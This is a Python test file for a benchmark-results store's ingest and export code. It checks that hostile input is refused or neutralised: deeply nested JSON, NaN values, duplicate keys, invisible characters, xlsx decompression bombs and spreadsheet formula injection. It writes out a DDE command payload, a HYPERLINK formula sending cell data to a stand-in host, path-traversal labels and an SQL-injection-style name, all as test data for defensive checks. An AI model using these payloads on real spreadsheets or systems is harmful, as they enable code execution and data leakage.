"""Issue 25, hostile input: every case is refused with exit 2 and one line naming the file (and the
line where there is one), never a traceback, and the store's files byte-identical afterwards
(``refused`` hashes every file under the store before and after)."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from backend.cli import main
from store.ingest import gate, jsontext
from store.store import Store
from tests.ingest_fixtures import table_frame, write_table, write_vlmevalkit
from tests.test_ingest_gate import refused

HEADER = '{"model": "m2", "benchmark": "videomme", "config": "16f", "target": "A", "prediction": "A"'


def jsonl(path: Path, lines: list[str]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("\n".join(lines) + "\n")
    return path


def rows(*extra: str) -> list[str]:
    """Three table rows; ``extra`` is appended inside row 2's object (so a bad value is on line 2)."""
    out = [
        HEADER + f', "item_id": "q{i}"' + (", " + ", ".join(extra) if i == 1 and extra else "") + "}" for i in range(3)
    ]
    return out


# -- case 6: nesting ------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["auto", "table"])
def test_json_nested_100k_deep_is_refused(seeded, tmp_path, capsys, fmt):
    deep = "[" * 100_000 + "]" * 100_000
    path = jsonl(tmp_path / "in" / "deep.jsonl", rows(f'"question": {deep}'))
    err = refused(seeded, [str(path), "--format", fmt], capsys)
    assert f"{path} line 2: JSON nested deeper than {jsontext.MAX_JSON_DEPTH} levels" in err


def test_json_document_nested_deep_is_refused(seeded, tmp_path, capsys):
    path = tmp_path / "deep.json"
    path.write_text('[{"item_id": "q1",\n "x": ' + "{" * 50_000 + "}" * 50_000 + "}]")
    err = refused(seeded, [str(path), "--format", "table"], capsys)
    assert f"{path} line 2: JSON nested deeper than {jsontext.MAX_JSON_DEPTH} levels" in err


def test_depth_scan_ignores_brackets_inside_strings():
    text = json.dumps({"a": "[" * 5000 + '\\"{' * 500, "b": [[["x"]]]})
    assert jsontext.too_deep_line(text) is None
    assert jsontext.decode(text)["b"] == [[["x"]]]
    assert jsontext.too_deep_line("[" * 101 + "]" * 101) == 1
    assert jsontext.too_deep_line("[" * 100 + "]" * 100) is None


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ('{"a": 1,\n "b": {"c": [1, 2,\n{"d": 1, "e": 2,\n "d": 3}]}}', 4, "the key 'd' appears twice"),
        ("[1,\n\n-Infinity]", 3, "-Infinity is not a JSON number"),
        ('{"x":\n[{}, [], {"y": [NaN]}]}', 2, "NaN is not a JSON number"),
        (' \n {"k" : 1 , "k" : 2}', 2, "the key 'k' appears twice"),
        ('[{"s": "NaN, \\"Infinity\\" and [{ in a string"},\n {"n": Infinity}]', 2, "Infinity is not"),
    ],
)
def test_a_refused_value_is_located_on_its_own_line(text, line, message):
    with pytest.raises(jsontext.Refused) as caught:
        jsontext.decode(text)
    assert caught.value.message.startswith(message)
    assert jsontext.locate(text, caught.value) == line


def test_depth_scan_carries_its_state_across_blocks(monkeypatch):
    """Blocks of 7 bytes give the answers one block does (quote parity and depth carried over)."""
    text = "\n".join(
        ["[" * 60 + "]" * 60, json.dumps({"a": "[[[{{{" * 30, "b": [[1]]}), '{"x": ' + "[" * 101 + "]" * 101 + "}"]
    )
    whole = (jsontext.too_deep_line(text), jsontext.too_deep_line(text, 200))
    monkeypatch.setattr(jsontext, "_CHUNK", 7)
    assert (jsontext.too_deep_line(text), jsontext.too_deep_line(text, 200)) == whole == (3, None)


def test_deep_option_probs_in_a_csv_cell_is_refused(seeded, tmp_path, capsys):
    df = table_frame("m2").assign(option_probs='{"A": 1.0}')
    df.loc[3, "option_probs"] = "[" * 50_000 + "]" * 50_000
    path = write_table(tmp_path / "in", df=df)
    err = refused(seeded, [str(path)], capsys)
    assert f"{path} line 5: `option_probs` must be a JSON object" in err


# -- case 7: non-scalar and non-finite values in scalar fields -----------------------------------
@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("NaN", "NaN is not a JSON number; write null for a missing value"),
        ("Infinity", "Infinity is not a JSON number"),
        ("-Infinity", "-Infinity is not a JSON number"),
        ("[1]", "`correct` must be one value (a number, text or true/false), got [1]"),
        ('{"a": 1}', "`correct` must be one value (a number, text or true/false), got {'a': 1}"),
    ],
)
@pytest.mark.parametrize("ext", ["jsonl", "json"])
def test_non_scalar_or_non_finite_correct(seeded, tmp_path, capsys, value, message, ext):
    lines = rows(f'"correct": {value}')
    path = tmp_path / "in" / f"bad.{ext}"
    jsonl(path, lines if ext == "jsonl" else ["[", ",\n".join(lines), "]"])
    err = refused(seeded, [str(path)], capsys)
    where = "line 2" if ext == "jsonl" else ("line 3" if value[0] not in "[{" else "record 2")
    assert f"{path} {where}: {message}" in err


@pytest.mark.parametrize("column", ["model", "item_id", "config", "task_type", "question"])
def test_non_scalar_key_and_item_fields(seeded, tmp_path, capsys, column):
    lines = rows()
    record = json.loads(lines[1])
    record[column] = ["x", "y"]
    lines[1] = json.dumps(record)
    path = jsonl(tmp_path / "in" / "bad.jsonl", lines)
    err = refused(seeded, [str(path)], capsys)
    assert f"{path} line 2: `{column}` must be one value (a number, text or true/false), got ['x', 'y']" in err


def test_vlmevalkit_json_with_a_list_as_prediction(seeded, tmp_path, capsys):
    path = write_vlmevalkit(tmp_path / "in", "json")
    records = json.loads(path.read_text())
    records[4]["prediction"] = ["A", "B"]
    path.write_text(json.dumps(records))
    err = refused(seeded, [str(path)], capsys)
    assert f"{path} row 6: `prediction` must be one value (a number, text or true/false), got ['A', 'B']" in err


# -- case 16: duplicate keys ----------------------------------------------------------------------
@pytest.mark.parametrize("ext", ["jsonl", "json"])
def test_duplicate_key_is_refused_naming_key_and_line(seeded, tmp_path, capsys, ext):
    lines = rows('"correct": 1, "correct": 0')
    path = tmp_path / "in" / f"dup.{ext}"
    jsonl(path, lines if ext == "jsonl" else ["[", ",\n".join(lines), "]"])
    err = refused(seeded, [str(path)], capsys)
    line = 2 if ext == "jsonl" else 3
    assert f"{path} line {line}: the key 'correct' appears twice in one object" in err


def test_duplicate_key_in_an_lmms_eval_log(seeded, tmp_path, capsys):
    path = jsonl(
        tmp_path / "in" / "samples.jsonl",
        ['{"doc_id": 0, "doc_id": 1, "target": "A", "filtered_resps": ["A"]}'],
    )
    err = refused(seeded, [str(path), "--model", "m2", "--config", "16f"], capsys)
    assert f"{path} line 1: the key 'doc_id' appears twice in one object" in err


# -- case 17: NaN confidence ----------------------------------------------------------------------
@pytest.mark.parametrize("spelling", ["NaN", "nan", "-nan", " NAN "])
def test_nan_confidence_in_csv_is_refused(seeded, tmp_path, capsys, spelling):
    df = table_frame("m2").astype({"confidence": object})
    df.loc[2, "confidence"] = spelling
    path = write_table(tmp_path / "in", df=df)
    err = refused(seeded, [str(path)], capsys)
    assert f"{path} line 4: `confidence` must be a number, got {spelling!r} (leave it empty for none)" in err


@pytest.mark.parametrize(
    ("value", "message"), [("NaN", "NaN is not a JSON number"), ('"NaN"', "`confidence` must be a number, got 'NaN'")]
)
def test_nan_confidence_in_json_is_refused(seeded, tmp_path, capsys, value, message):
    path = jsonl(tmp_path / "in" / "nan.jsonl", rows(f'"confidence": {value}'))
    err = refused(seeded, [str(path)], capsys)
    assert f"{path} line 2: {message}" in err


def test_nan_confidence_in_parquet_is_refused(seeded, tmp_path, capsys):
    df = table_frame("m2")
    df.loc[4, "confidence"] = float("nan")
    table = pa.Table.from_pandas(df, preserve_index=False)
    conf = pa.array(df["confidence"].tolist(), type=pa.float64(), from_pandas=False)  # NaN kept, not null
    table = table.set_column(table.column_names.index("confidence"), "confidence", conf)
    path = tmp_path / "in" / "nan.parquet"
    path.parent.mkdir()
    pq.write_table(table.append_column("score", pa.array([None, 0.5, None, None, None, None], pa.float64())), path)
    err = refused(seeded, [str(path)], capsys)
    assert f"{path} row 5: `confidence` is NaN; leave it empty (null) for none" in err


def test_missing_confidence_stays_missing(seeded, tmp_path):
    """An empty CSV cell or an absent JSON key is no confidence, not a refusal."""
    df = table_frame("m2").astype({"confidence": object})
    df.loc[2, "confidence"] = None
    assert main(["ingest", str(write_table(tmp_path / "in", df=df)), "--store", str(seeded)]) == 0
    path = jsonl(tmp_path / "in" / "ok.jsonl", [line.replace('"model": "m2"', '"model": "m3"') for line in rows()])
    assert main(["ingest", str(path), "--store", str(seeded)]) == 0
    conf = Store(seeded).query("SELECT model, confidence FROM responses WHERE model IN ('m2', 'm3')")
    assert conf.groupby("model")["confidence"].apply(lambda c: int(c.isna().sum())).to_dict() == {"m2": 1, "m3": 3}


# -- case 21: auto-detection of long lines -------------------------------------------------------
def test_auto_detect_reads_a_valid_999999_character_line(seeded, tmp_path, capsys):
    long = "x" * (999_999 - len(HEADER) - len(', "item_id": "q1", "question": ""}'))
    lines = rows(f'"question": "{long}"')
    lines[0], lines[1] = lines[1].replace('"q1"', '"q0"', 1), lines[0].replace('"q0"', '"q1"', 1)
    assert len(lines[0]) == 999_999
    path = jsonl(tmp_path / "in" / "long.jsonl", lines)
    assert main(["ingest", str(path), "--store", str(seeded)]) == 0
    stored = Store(seeded).query("SELECT length(question) AS n FROM items WHERE item_id = 'q0'")
    assert int(stored["n"].iloc[0]) == len(long)


@pytest.mark.parametrize("size", [gate.MAX_FIELD_CHARS + 1, pytest.param(50_000_000, marks=pytest.mark.slow)])
def test_auto_detect_names_the_field_limit_like_format_table(seeded, tmp_path, capsys, size):
    """The probe's 50 MB line, and one just over the limit: auto-detection refuses them as --format table does."""
    big = "x" * size
    lines = rows()
    lines[0] = lines[0][:-1] + f', "question": "{big}"}}'
    path = jsonl(tmp_path / "in" / "huge.jsonl", lines)
    auto = refused(seeded, [str(path)], capsys)
    table = refused(seeded, [str(path), "--format", "table"], capsys)
    assert auto == table
    assert (
        f"{path} line 1: `question`: a field of {len(big):,} characters is above the 1,000,000-character limit" in auto
    )


# -- cases 13 and 15: names and ids a reader cannot see or type ---------------------------------
@pytest.mark.parametrize(
    ("column", "value", "shown"),
    [
        ("item_id", "001-\x002", "a control character (U+0000 '\\x00') at position 5"),
        ("item_id", "001-2\x1b[31m", "a control character (U+001B '\\x1b') at position 6"),
        ("model", "m2\tx", "a control character (U+0009 '\\t') at position 3"),
        ("model", "synthetic-A\u200b-7B", "an invisible formatting character (U+200B ZERO WIDTH SPACE) at position 12"),
        ("model", "\u202esynthetic-A-7B", "an invisible formatting character (U+202E RIGHT-TO-LEFT OVERRIDE)"),
        ("model", "synthetic\u2066-A-7B", "an invisible formatting character (U+2066 LEFT-TO-RIGHT ISOLATE)"),
        ("task_type", "Counting\u200d", "an invisible formatting character (U+200D ZERO WIDTH JOINER)"),
        ("video", "00\u20601", "an invisible formatting character (U+2060 WORD JOINER)"),
    ],
)
@pytest.mark.parametrize("ext", ["csv", "jsonl"])
def test_control_and_invisible_characters_in_names_and_ids(seeded, tmp_path, capsys, column, value, shown, ext):
    df = table_frame("m2").assign(video="001", task_type="Counting")
    df.loc[3, column] = value
    path = write_table(tmp_path / "in", ext, df=df)
    err = refused(seeded, [str(path)], capsys)
    line = 5 if ext == "csv" else 4
    assert f"{path} line {line}: `{column}` holds {shown}" in err
    assert "names and ids must be visible text" in err


def test_names_are_nfkc_normalised(seeded, tmp_path):
    """Full-width and ligature spellings of a model name are one model, the NFKC one."""
    df = table_frame("\uff4d\uff12")  # "ｍ２"
    df.loc[3:, "model"] = "m2"
    assert main(["ingest", str(write_table(tmp_path / "in", df=df)), "--store", str(seeded)]) == 0
    models = Store(seeded).query("SELECT DISTINCT model FROM responses ORDER BY model")["model"].tolist()
    assert models == ["m1", "m2"]


# -- case 8: an xlsx whose cells unpack far beyond the file ---------------------------------------
def bloated_xlsx(folder: Path, cell_chars: int) -> Path:
    """A VLMEvalKit workbook whose first prediction holds ``cell_chars`` characters, written as a
    zip part streamed in blocks (a few MB on disk whatever the cell's size)."""
    import zipfile

    path = write_vlmevalkit(folder, "xlsx")
    small = path.with_suffix(".small.xlsx")
    path.rename(small)
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info, data)
                continue
            head, _, rest = data.partition(b"<t>A.</t>")  # the first prediction's inline string
            with dst.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as out:
                out.write(head + b"<t>")
                block = b"a" * (1 << 23)
                for _ in range(cell_chars // len(block)):
                    out.write(block)
                out.write(b"a" * (cell_chars % len(block)) + b"</t>" + rest)
    small.unlink()
    return path


def no_openpyxl(monkeypatch) -> None:
    def fail_load(*args, **kwargs):
        raise AssertionError("the workbook was loaded")

    monkeypatch.setattr(pd, "read_excel", fail_load)


def test_xlsx_cell_beyond_the_field_limit_is_refused_before_loading(seeded, tmp_path, capsys, monkeypatch):
    path = bloated_xlsx(tmp_path / "in", 3 * (1 << 23))  # 25 MB in one cell
    assert path.stat().st_size < 1 << 20
    no_openpyxl(monkeypatch)
    err = refused(seeded, [str(path)], capsys)
    assert f"{path}: a cell in xl/worksheets/sheet1.xml holds over 8,000,000 bytes of XML" in err
    assert "1,000,000-character field limit" in err


@pytest.mark.slow
def test_xlsx_with_a_3_gb_cell_is_refused_without_loading(seeded, tmp_path, capsys, monkeypatch):
    """The probe's case: a small file holding one 3 GB cell (6.4 GB of memory before)."""
    path = bloated_xlsx(tmp_path / "in", 3 * 10**9)
    assert path.stat().st_size < 32 << 20
    no_openpyxl(monkeypatch)
    err = refused(seeded, [str(path)], capsys)
    assert "holds over 8,000,000 bytes of XML" in err


def test_xlsx_unpacking_beyond_the_bound_is_refused(seeded, tmp_path, capsys, monkeypatch):
    """The bound on all parts together (lowered here: a real one would need gigabytes)."""
    from store.ingest import workbook

    path = write_vlmevalkit(tmp_path / "in", "xlsx")
    monkeypatch.setattr(workbook, "MAX_XLSX_XML_BYTES", 1024)
    no_openpyxl(monkeypatch)
    err = refused(seeded, [str(path)], capsys)
    assert f"{path}: the workbook unpacks to " in err and "bytes, above the 1,024-byte limit for .xlsx" in err


def test_xlsx_with_cells_under_the_limit_still_reads(seeded, tmp_path, capsys):
    """A large cell under the field limit (its sheet part beyond one scan block) is read."""
    path = bloated_xlsx(tmp_path / "in", 900_000)
    import zipfile

    with zipfile.ZipFile(path) as book:
        assert book.getinfo("xl/worksheets/sheet1.xml").file_size > 900_000
    assert main(["ingest", str(path), "--store", str(seeded)]) == 0


def test_not_a_zip_named_xlsx(seeded, tmp_path, capsys):
    path = write_vlmevalkit(tmp_path / "in", "xlsx")
    path.write_bytes(b"PK\x03\x04 not really a zip")
    err = refused(seeded, [str(path)], capsys)
    assert f"{path}: not a readable .xlsx workbook (BadZipFile" in err


# -- case 5: exports a spreadsheet would run ------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tx", "\rx"]


def test_items_csv_neutralises_formulas(tmp_path, capsys):
    import csv
    import io

    df = table_frame("m2")
    df["question"] = FORMULAS
    df["item_id"] = ["=1+1", "@A1", "+7", "-7", "'q", "001-2"]
    df["task_type"] = ["+1+1", "ok", "=x", "ok", "ok", "ok"]
    root = tmp_path / "store"
    assert main(["ingest", str(write_table(tmp_path / "in", "jsonl", df=df)), "--store", str(root)]) == 0
    capsys.readouterr()
    assert main(["items", "--store", str(root), "--model", "m2", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    table = list(csv.DictReader(io.StringIO(out, newline="")))
    by_id = {r["item_id"]: r for r in table}
    assert set(by_id) == {"'=1+1", "'@A1", "'+7", "'-7", "''q", "001-2"}
    questions = sorted(r["question"] for r in table)
    assert questions == sorted("'" + f for f in FORMULAS)
    assert by_id["'=1+1"]["task_type"] == "'+1+1" and by_id["'+7"]["task_type"] == "'=x"
    # numbers stay numbers: the 0/1 trajectory and the confidences are unquoted, unprefixed
    assert by_id["'=1+1"]["16f"] in ("0", "1") and float(by_id["'=1+1"]["confidence:16f"]) == 0.9
    assert not any(line.startswith(("=", "+", "-", "@")) for line in out.splitlines())
    # the export reads back as the ids it was made from (`rerun --items` takes it)
    from backend.scope.selection import read_ids

    (tmp_path / "export.csv").write_text(out)
    assert sorted(read_ids(str(tmp_path / "export.csv"))) == sorted(df["item_id"])


def test_spreadsheet_safe_keeps_numbers_and_plain_text():
    from backend.export import csv_text, spreadsheet_safe

    df = pd.DataFrame(
        {
            "text": ["=a", "b", None, "-x"],
            "n": [-1, 2, 3, -4],
            "f": [-0.5, 1.0, None, 2.0],
            "mixed": pd.Series([-1, "-1", 2.5, "@x"], dtype=object),
            "cat": pd.Categorical(["+a", "b", "+a", "c"]),
            "=name": [1, 2, 3, 4],
        }
    )
    safe = spreadsheet_safe(df)
    assert safe["text"].tolist()[:2] == ["'=a", "b"] and pd.isna(safe["text"][2]) and safe["text"][3] == "'-x"
    assert safe["n"].tolist() == [-1, 2, 3, -4] and safe["n"].dtype == df["n"].dtype
    assert safe["mixed"].tolist() == [-1, "'-1", 2.5, "'@x"]
    assert safe["cat"].tolist() == ["'+a", "b", "'+a", "c"]
    assert list(safe.columns) == ["text", "n", "f", "mixed", "cat", "'=name"]
    assert df["text"][0] == "=a"  # the input frame is untouched
    assert csv_text(df).splitlines()[1] == '"\'=a",-1,-0.5,-1,"\'+a",1'


def test_page_downloads_use_the_same_writer():
    from backend.export import csv_text
    from pages.common.data import csv_bytes

    df = pd.DataFrame({"q": FORMULAS, "n": range(len(FORMULAS))})
    assert csv_bytes(df) == csv_text(df).encode()
    assert b'"=HYPERLINK' not in csv_bytes(df) and b"\"'=HYPERLINK" in csv_bytes(df)


# -- case 14: annotations capped like ingested fields ---------------------------------------------
@pytest.mark.parametrize("size", [1 << 20, 5 << 20])
def test_annotation_notes_over_the_field_limit_are_refused(seeded, capsys, size):
    from tests.test_cli_errors import one_line_error
    from tests.test_ingest_gate import snapshot

    before = snapshot(seeded)
    base = ["annotate", "add", "--store", str(seeded), "--benchmark", "videomme", "--item", "001-1", "--tag", "ocr"]
    err = one_line_error([*base, "--note", "n" * size, "--author", "ana"], capsys)
    assert f"annotation note has {size:,} characters, above the {gate.MAX_FIELD_CHARS:,}-character limit" in err
    err = one_line_error([*base, "--note", "ok", "--author", "a" * size], capsys)
    assert f"annotation author has {size:,} characters" in err
    err = one_line_error([*base, "--note", "ok", "--author", "an\u202ea"], capsys)
    assert "annotation author holds an invisible formatting character (U+202E RIGHT-TO-LEFT OVERRIDE)" in err
    assert snapshot(seeded) == before
    assert main([*base, "--note", "n" * gate.MAX_FIELD_CHARS, "--author", "ana"]) == 0  # the limit itself is kept


# -- what the probe found held: kept so --------------------------------------------------------
@pytest.mark.parametrize("encoding", ["utf-16", "latin-1"])
@pytest.mark.parametrize("fmt", ["auto", "table"])
def test_held_non_utf8_files(seeded, tmp_path, capsys, encoding, fmt):
    path = tmp_path / "in" / "t.csv"
    path.parent.mkdir()
    path.write_bytes(table_frame("m2").assign(question="caf\u00e9").to_csv(index=False).encode(encoding))
    err = refused(seeded, [str(path), "--format", fmt], capsys)
    assert "not UTF-8 text" in err and "re-save the file as UTF-8" in err


def test_held_overlong_csv_line_with_format_table(seeded, tmp_path, capsys):
    df = table_frame("m2")
    df.loc[2, "question"] = "q" * (gate.MAX_FIELD_CHARS + 5)
    err = refused(seeded, [str(write_table(tmp_path / "in", df=df)), "--format", "table"], capsys)
    assert "line 4" in err and "above the 1,000,000-character limit" in err


@pytest.mark.parametrize("value", ["1e400", "-1e400", "[0.5]", '"inf"', '"Infinity"'])
def test_held_infinite_and_list_confidences(seeded, tmp_path, capsys, value):
    path = jsonl(tmp_path / "in" / "c.jsonl", rows(f'"confidence": {value}'))
    err = refused(seeded, [str(path)], capsys)
    assert f"{path} line 2: `confidence` must be" in err


@pytest.mark.parametrize("label", ["../../x", "/etc/passwd", "16f/../../x"])
def test_held_path_like_config_labels(seeded, tmp_path, capsys, label):
    path = write_table(tmp_path / "in", df=table_frame("m2", config=label))
    err = refused(seeded, [str(path)], capsys)
    assert f"{path} line 2:" in err


def test_held_sql_looking_names_are_stored_as_text(seeded, tmp_path):
    name = "m'); DROP TABLE responses; --"
    assert main(["ingest", str(write_table(tmp_path / "in", df=table_frame(name))), "--store", str(seeded)]) == 0
    models = Store(seeded).query("SELECT model, count(*) AS n FROM responses GROUP BY model ORDER BY model")
    assert models.set_index("model")["n"].to_dict() == {"m1": 6, name: 6}


# -- issue 34 item 5: an id long enough to swamp every cache keyed by it ---------------------------
@pytest.mark.parametrize("column", ["item_id", "model", "video"])
def test_an_id_or_name_over_1024_characters_is_refused_with_its_length(seeded, tmp_path, capsys, column):
    df = table_frame("m2").assign(video="001")
    df.loc[3, column] = "x" * 2_000
    path = write_table(tmp_path / "in", df=df)
    err = refused(seeded, [str(path)], capsys)
    assert f"{path} line 5: `{column}` has 2,000 characters, above the 1,024-character limit for names and ids" in err


def test_an_id_of_1024_characters_is_kept(seeded, tmp_path):
    df = table_frame("m2")
    df.loc[3, "item_id"] = "x" * gate.MAX_ID_CHARS
    assert main(["ingest", str(write_table(tmp_path / "in", df=df)), "--store", str(seeded)]) == 0
    stored = Store(seeded).query("SELECT max(length(item_id)) AS n FROM responses WHERE model = 'm2'")
    assert int(stored["n"].iloc[0]) == gate.MAX_ID_CHARS


# -- issue 34, smaller notes: ids that differ only in spaces; targets beyond the option letters ----
def test_ids_that_stripping_would_merge_are_refused_naming_both(seeded, tmp_path, capsys):
    """'001-3 ' and '001-3' were stripped into one id and the second row dropped as a duplicate: two ids, one lost."""
    df = table_frame("m2")
    df.loc[3] = df.loc[2]
    df.loc[3, "item_id"] = df.loc[2, "item_id"] + " "
    path = write_table(tmp_path / "in", "jsonl", df=df)
    err = refused(seeded, [str(path)], capsys)
    assert (
        f"{path} line 4: `item_id` '001-3' and '001-3 ' differ only in surrounding spaces: stripping them "
        "would merge two item_id values; remove the spaces or rename one" in err
    )


def test_ids_stripped_of_spaces_are_kept_and_counted_in_the_summary(seeded, tmp_path, capsys):
    df = table_frame("m2")
    spaced = f"  {df.loc[3, 'item_id']} "
    df.loc[3, "item_id"] = spaced
    path = write_table(tmp_path / "in", "jsonl", df=df)
    capsys.readouterr()
    assert main(["ingest", str(path), "--store", str(seeded)]) == 0
    said = capsys.readouterr().out
    assert f"note: {path}: 1 item_id stripped of surrounding spaces (e.g. {spaced!r} -> {spaced.strip()!r})" in said
    ids = Store(seeded).query("SELECT item_id FROM responses WHERE model = 'm2' ORDER BY item_id")["item_id"]
    assert ids.tolist() == sorted(table_frame()["item_id"])


@pytest.mark.parametrize("target", ["I", "j", "(K)", "Z."])
def test_a_single_letter_target_beyond_h_without_options_is_refused(seeded, tmp_path, capsys, target):
    """It silently became an open-ended reference scored by Token-F1: "I" is far likelier option 9 of a
    ten-option item than a one-letter answer, and the store's items have at most 8 options (A-H)."""
    df = table_frame("m2").drop(columns=["options"])
    df.loc[1, ["item_id", "target"]] = ["new-1", target]
    path = write_table(tmp_path / "in", "jsonl", df=df)
    err = refused(seeded, [str(path)], capsys)
    assert f"{path} line 2: `target` {target!r} is one letter beyond H and the row lists no options" in err


def test_a_one_letter_open_ended_reference_is_kept_when_its_type_says_so(seeded, tmp_path, capsys):
    df = table_frame("m2").drop(columns=["options"]).assign(answer_type=None)
    df.loc[1, ["item_id", "target", "answer_type"]] = ["new-1", "I", "open"]
    assert main(["ingest", str(write_table(tmp_path / "in", "jsonl", df=df)), "--store", str(seeded)]) == 0
    kept = Store(seeded).query("SELECT target, answer_type FROM items WHERE item_id = 'new-1'")
    assert kept.to_dict("records") == [{"target": "I", "answer_type": "open"}]


def test_an_answer_type_other_than_mcqa_or_open_is_refused(seeded, tmp_path, capsys):
    df = table_frame("m2").assign(answer_type=None)
    df.loc[2, "answer_type"] = "essay"
    err = refused(seeded, [str(write_table(tmp_path / "in", "jsonl", df=df))], capsys)
    assert "line 3: `answer_type` must be mcqa, open or empty, got 'essay'" in err


def test_the_summary_lists_ten_names_and_counts_the_rest(tmp_path, capsys):
    """An ingest of 100k configurations printed them all on one 1 MB line; ``--json`` still lists every one."""
    df = pd.DataFrame(
        [
            {"model": f"m{m:02d}", "benchmark": "b", "item_id": "q1", "config": f"{f}f", "correct": 1}
            for m in range(12)
            for f in range(1, 26)
        ]
    )
    path = write_table(tmp_path / "in", df=df)
    capsys.readouterr()
    assert main(["ingest", str(path), "--store", str(tmp_path / "store")]) == 0
    (names,) = [line for line in capsys.readouterr().out.splitlines() if line.startswith("models: ")]
    assert names == (
        "models: m00, m01, m02, m03, m04, m05, m06, m07, m08, m09 … and 2 more; benchmarks: b; "
        "configs: 1f, 2f, 3f, 4f, 5f, 6f, 7f, 8f, 9f, 10f … and 15 more"
    )
    assert main(["ingest", str(path), "--store", str(tmp_path / "store"), "--json"]) == 0
    assert len(json.loads(capsys.readouterr().out)["configs"]) == 25
